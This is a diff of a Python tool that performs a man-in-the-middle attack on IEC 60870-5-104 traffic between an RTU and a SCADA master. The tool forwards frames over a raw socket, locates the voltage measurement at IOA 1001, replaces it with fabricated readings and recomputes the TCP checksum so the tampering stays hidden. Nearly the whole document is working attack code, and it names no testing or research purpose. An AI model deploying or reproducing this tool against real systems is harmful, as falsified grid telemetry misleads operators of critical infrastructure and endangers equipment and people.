@@ -2,19 +2,185 @@
 
 import sys
 import signal
-from threading import Thread
-from collections import Counter, deque
-from copy import deepcopy
-from hashlib import md5
-from time import sleep
+import struct
+from random import randint
+from socket import socket, AF_PACKET, SOCK_RAW, PACKET_OUTGOING, htons, timeout
 import scapy.all as scapy
-from IEC104_Raw.dissector import *
+
+IEC104_PORT = 2404
+ETH_P_ALL = 0x0003
+FRAME_MAXLEN = 65536
+FALSIFIED_IOA = 1001
+
+# Offsets in an Ethernet II frame
+ETH_LEN = 14
+ETH_TYPE = 12
+IP_PROTO = ETH_LEN + 9
+IP_SRC = ETH_LEN + 12
+TCP_SPORT = 0
+TCP_DPORT = 2
+TCP_CHKSUM = 16
+
+# Type 36 (M_ME_TF_1): IOA (3) + value (float, 4) + QDS (1) + CP56Time2a (7)
+IOA36_LEN = 15
+IOA36_SQ_LEN = 12           # Sequence of elements: no IOA address
+IOA36_VALUE = 3
+ASDU_HEADER_LEN = 6         # TypeId, SQ/NumIx, CoT, OA, Addr (2)
+
+FLOAT = struct.Struct('<f')
+IOA = struct.Struct('<I')
 
 def getMAC(ip: str, interface: str) -> str:
     ans, unans = scapy.srp(scapy.Ether(dst='ff:ff:ff:ff:ff:ff')/scapy.ARP(op=1, pdst=ip), iface=interface, verbose=0)
     for snd, rcv in ans:
         return rcv.sprintf(r'%Ether.src%')
 
+def _sum16(data) -> int:
+    # One's complement sum of big endian 16 bit words (data has an even length)
+    total = sum(struct.unpack(f'!{len(data) // 2:d}H', data))
+    while total >> 16:
+        total = (total & 0xffff) + (total >> 16)
+    return total
+
+def checksum_update(checksum: int, old, new) -> int:
+    '''
+    Incremental update of an Internet checksum (RFC 1624, Eqn. 3):
+    HC' = ~(~HC + ~m + m'), where old (m) and new (m') are the
+    replaced 16 bit aligned words.
+    '''
+    total = (~checksum & 0xffff) + (~_sum16(old) & 0xffff) + _sum16(new)
+    while total >> 16:
+        total = (total & 0xffff) + (total >> 16)
+    return ~total & 0xffff
+
+class Rewriter(object):
+    '''
+    In-path rewriting of the traffic between an RTU and the SCADA
+    master.
+
+    Frames are received into a preallocated buffer and patched in place:
+    only the MAC addresses of forwarded frames are rewritten, and the
+    voltage (IOA 1001, type 36) of the frames from the RTU is falsified,
+    fixing the TCP checksum incrementally. The IP header is never
+    modified, so its checksum stays valid.
+    '''
+
+    def __init__(self, interface: str, rtu: tuple, scada: tuple, mac: str):
+        self.interface = interface
+        self.rtu_ip, rtu_mac = rtu
+        self.scada_ip, scada_mac = scada
+        self.mac = bytes.fromhex(mac.replace(':', ''))
+        self.rtu_mac = bytes.fromhex(rtu_mac.replace(':', ''))
+        self.scada_mac = bytes.fromhex(scada_mac.replace(':', ''))
+        self.rtu_addr = bytes(int(x) for x in self.rtu_ip.split('.'))
+        # Source MAC -> new (destination MAC + source MAC)
+        self.routes = {
+            self.rtu_mac: self.scada_mac + self.mac,
+            self.scada_mac: self.rtu_mac + self.mac,
+        }
+        self.value_out = None
+        self.value_store = None
+        self.forwarded = 0
+        self.altered = 0
+        self.malformed = 0      # Frames forwarded without falsification because they could not be parsed
+        self.terminate = False
+
+    def _falsify(self, value: float) -> float:
+        if value != self.value_store:
+            self.value_store = value
+            if self.value_out is None:
+                self.value_out = 520000.0 + float(randint(100, 100000)) / 100.0
+            else:
+                self.value_out -= 500 + float(randint(100, 10000)) / 100.0
+        return self.value_out
+
+    def _falsify_segment(self, frame: memoryview, tcp: int, end: int) -> bool:
+        # Patch every IOA 1001 value in the APDUs of a TCP segment from the RTU.
+        # The values are located in every APDU before patching any of them.
+        pos = tcp + ((frame[tcp + 12] >> 4) << 2)
+        checksum = (frame[tcp + TCP_CHKSUM] << 8) | frame[tcp + TCP_CHKSUM + 1]
+        offsets = []
+        while pos + 2 <= end and frame[pos] == 0x68:
+            apdu_end = pos + 2 + frame[pos + 1]
+            if apdu_end > end:
+                break
+            asdu = pos + 6
+            if frame[pos + 2] & 0x01 == 0 and apdu_end - asdu > ASDU_HEADER_LEN and frame[asdu] == 36: # I-Frame, M_ME_TF_1
+                sq, numix = frame[asdu + 1] >> 7, frame[asdu + 1] & 0x7f
+                ioa = asdu + ASDU_HEADER_LEN
+                # NumIx is not trusted: only the objects within the APDU are read
+                if sq and apdu_end - ioa >= 3:
+                    first = IOA.unpack_from(bytes(frame[ioa:ioa + 3]) + b'\x00')[0]
+                    numix = min(numix, (apdu_end - ioa - 3) // IOA36_SQ_LEN)
+                    values = [(first + i, ioa + 3 + i * IOA36_SQ_LEN) for i in range(numix)]
+                elif not sq:
+                    numix = min(numix, (apdu_end - ioa) // IOA36_LEN)
+                    values = [(frame[ioa + i * IOA36_LEN] | (frame[ioa + i * IOA36_LEN + 1] << 8) | (frame[ioa + i * IOA36_LEN + 2] << 16),
+                               ioa + i * IOA36_LEN + IOA36_VALUE) for i in range(numix)]
+                else:
+                    values = []
+                offsets += [offset for address, offset in values if address == FALSIFIED_IOA and offset + 4 <= apdu_end]
+            pos = apdu_end
+        for offset in offsets:
+            # 16 bit words covering the value, aligned to the start of the TCP header
+            start = offset - ((offset - tcp) & 1)
+            stop = offset + 4 + ((offset + 4 - tcp) & 1)
+            old = bytes(frame[start:stop])
+            FLOAT.pack_into(frame, offset, self._falsify(FLOAT.unpack_from(frame, offset)[0]))
+            checksum = checksum_update(checksum, old, frame[start:stop])
+        if len(offsets) > 0:
+            frame[tcp + TCP_CHKSUM] = checksum >> 8
+            frame[tcp + TCP_CHKSUM + 1] = checksum & 0xff
+        return len(offsets) > 0
+
+    def rewrite(self, frame: memoryview) -> bool:
+        '''
+        Rewrite a received frame in place. Returns whether it has to be
+        forwarded.
+        '''
+        if len(frame) < ETH_LEN or frame[0:6] != self.mac:
+            return False
+        route = self.routes.get(bytes(frame[6:12]), None)
+        if route is None:
+            return False
+        frame[0:12] = route
+        if len(frame) >= ETH_LEN + 20 and frame[ETH_TYPE] == 0x08 and frame[ETH_TYPE + 1] == 0x00 and frame[IP_PROTO] == 6 \
+            and frame[IP_SRC:IP_SRC + 4] == self.rtu_addr:
+            tcp = ETH_LEN + ((frame[ETH_LEN] & 0x0f) << 2)
+            end = min(len(frame), ETH_LEN + ((frame[ETH_LEN + 2] << 8) | frame[ETH_LEN + 3])) # Skip the Ethernet padding
+            if tcp + 20 <= end and (frame[tcp + TCP_SPORT] << 8) | frame[tcp + TCP_SPORT + 1] == IEC104_PORT:
+                if self._falsify_segment(frame, tcp, end):
+                    self.altered += 1
+        return True
+
+    def run(self):
+        sock = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL))
+        sock.bind((self.interface, 0))
+        sock.settimeout(1)
+        buffer = bytearray(FRAME_MAXLEN)
+        view = memoryview(buffer)
+        try:
+            while not self.terminate:
+                try:
+                    length, addr = sock.recvfrom_into(buffer)
+                except timeout:
+                    continue
+                if addr[2] == PACKET_OUTGOING:
+                    continue
+                frame = view[:length]
+                try:
+                    forward = self.rewrite(frame)
+                except Exception:
+                    # The frame is routed before its payload is parsed, and the
+                    # payload is only patched once parsed: forward it unmodified
+                    self.malformed += 1
+                    forward = True
+                if forward:
+                    sock.send(frame)
+                    self.forwarded += 1
+        finally:
+            sock.close()
+
 if __name__ == '__main__':
     interface = input('Enter interface: ')
     rtuIP = input('Enter RTU IP: ')
@@ -22,48 +188,10 @@ if __name__ == '__main__':
     rtuMAC = getMAC(rtuIP, interface)
     scadaMAC = getMAC(scadaIP, interface)
     myMAC = scapy.get_if_hwaddr(interface)
-    value_out = None
-    value_store = None
-    altered = deque(list(), 10)
-
-    ## Setup sniff, filtering for IP traffic
-    def custom_action(packet):
-        global rtuMAC
-        global rtuIP
-        global scadaMAC
-        global scadaIP
-        global myMAC
-
-        p = deepcopy(packet)
-        # if md5(bytes(p)).hexdigest() in altered:
-        #     return None
-        # if not str(packet['Ether'].dst).lower() == 'ff:ff:ff:ff:ff:ff':
-        print(p['Ethernet'].src, p['Ethernet'].dst)
-        if str(packet['Ether'].src).lower() == rtuMAC and str(packet['Ether'].dst).lower() == myMAC:
-            p['Ether'].src = myMAC
-            p['Ether'].dst = scadaMAC
-        elif str(packet['Ether'].src).lower() == scadaMAC and str(packet['Ether'].dst).lower() == myMAC:
-            p['Ether'].src = myMAC
-            p['Ether'].dst = rtuMAC
-            
-            if packet.haslayer('TCP') and (packet['TCP'].sport == 2404 or packet['TCP'].dport == 2404):
-
-                if p.haslayer('IOA36') and p['IOA36'].IOA == 1001:
-                    value = float(p['IOA36'].Value)
-                    if value != value_store:
-                        value_store = value
-                        if value_out is None:
-                            value_out = 520000.0 + float(randint(100,100000)) / 100.0
-                        else:
-                            value_out -= 500 + float(randint(100,10000)) / 100.0
-                    p['IOA36'].Value = value_out
-                p['IP'].chksum =  None
-                p['TCP'].chksum = None
-                    
-            # altered.append(md5(bytes(p)).hexdigest())
-        else:
-            return
-        scapy.sendp(p, iface=interface, verbose=0)
-
-    scapy.sniff(iface=interface, filter="ip", prn=custom_action)
-
+    rewriter = Rewriter(interface, (rtuIP, rtuMAC), (scadaIP, scadaMAC), myMAC)
+    def stop(signum, frame):
+        rewriter.terminate = True
+    signal.signal(signal.SIGINT, stop)
+    rewriter.run()
+    print(f'Forwarded {rewriter.forwarded:d} frames, {rewriter.altered:d} altered, {rewriter.malformed:d} malformed')
+    sys.exit(0)